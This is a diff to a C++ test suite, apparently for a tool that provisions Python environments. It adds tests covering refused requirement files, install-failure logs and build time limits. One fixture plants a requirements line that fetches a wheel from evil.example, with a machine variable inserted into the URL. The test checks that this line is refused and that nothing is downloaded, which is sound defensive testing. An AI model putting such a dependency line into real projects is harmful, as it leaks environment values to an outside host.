@@ -231,6 +231,33 @@ TEST_F(Environment, AMissingFileIsNamed) {
   EXPECT_THAT(outcome.findings[0].message, HasSubstr("nowhere.txt"));
 }
 
+TEST_F(Environment, AVariableOfTheMachineReachesNoRequirement) {
+  lab_has("requirements.txt", "six\nspy @ https://evil.example/${PIP_EXTRA_INDEX_URL}/spy.whl\n");
+  wanted_.files = {"requirements.txt"};
+  const auto outcome = provide();
+  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.file-refused"));
+  EXPECT_EQ(outcome.findings[0].place.line, 2);
+  EXPECT_THAT(machine_.with("download"), IsEmpty());
+}
+
+TEST_F(Environment, AFailureThatNothingExplainsNamesItsLog) {
+  wanted_.packages = {"six==1.16.0"};
+  machine_.on_install = [](const std::vector<std::string>&) {
+    return FakeMachine::Answer{2, "", "strange words\n", {}};
+  };
+  const auto outcome = provide();
+  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.failed"));
+  EXPECT_THAT(outcome.findings[0].remedy, HasSubstr("logs/environment.install.err"));
+  EXPECT_THAT(outcome.findings[0].evidence, Contains("strange words"));
+}
+
+TEST_F(Environment, TimeForTheBuildIsWhatWaitingLeft) {
+  wanted_.packages = {"six==1.16.0"};
+  request_.seconds = 50;
+  ASSERT_TRUE(provide().environment);
+  EXPECT_LE(machine_.with("download")[0].limits.wall_seconds, 50);
+}
+
 TEST_F(Environment, AnOpenTorchIsRefusedBeforeAnythingIsDownloaded) {
   lab_has("requirements.txt", "torch>=2.0\n");
   wanted_.files = {"requirements.txt"};
@@ -293,8 +320,7 @@ TEST_F(Environment, TheCpuIndexIsAskedOnlyWhereTheOwnOneLacksTheBuild) {
   EXPECT_EQ(machine_.with("download").size(), 2u);
 }
 
-TEST_F(Environment, ARehearsalPredictsWhatAMacLacksAndRemembersIt) {
-  request_.rehearsal = true;
+TEST_F(Environment, OnLinuxWhatAMacLacksIsPredictedAndRemembered) {
   wanted_.packages = {"native==1.0"};
   machine_.pages["https://index.example/simple/native/"] = {
       200, "<a href=x>native-1.0-cp311-cp311-manylinux_2_28_x86_64.whl</a>", "text/html"};
